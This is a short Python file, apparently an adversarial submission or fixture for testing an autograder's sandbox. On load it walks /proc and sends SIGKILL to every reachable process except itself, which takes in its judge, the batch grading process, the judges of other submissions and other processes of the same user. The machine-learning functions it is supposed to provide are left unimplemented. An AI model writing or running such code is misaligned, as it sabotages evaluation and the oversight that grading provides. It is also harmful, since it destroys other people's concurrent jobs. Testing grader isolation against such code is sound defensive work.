# Attack: while loading, kills every process it can see but itself: its judge, the judge's parent (a
# batch's grading process) and every other child of it (the judges of classmates graded at the same time),
# found through /proc/<pid>/task/<pid>/children, then anything else of the same user.
import os
import signal

me = os.getpid()
targets = set()
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    targets.add(pid)
    try:
        with open(f"/proc/{pid}/task/{pid}/children") as f:
            targets.update(int(c) for c in f.read().split())
    except OSError:
        pass
for pid in (os.getppid(), *sorted(targets)):
    if pid not in (me, 0):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def predict(x, w, b):
    raise NotImplementedError


def mse_loss(y_pred, y):
    raise NotImplementedError


def linear_grads(x, y, w, b):
    raise NotImplementedError
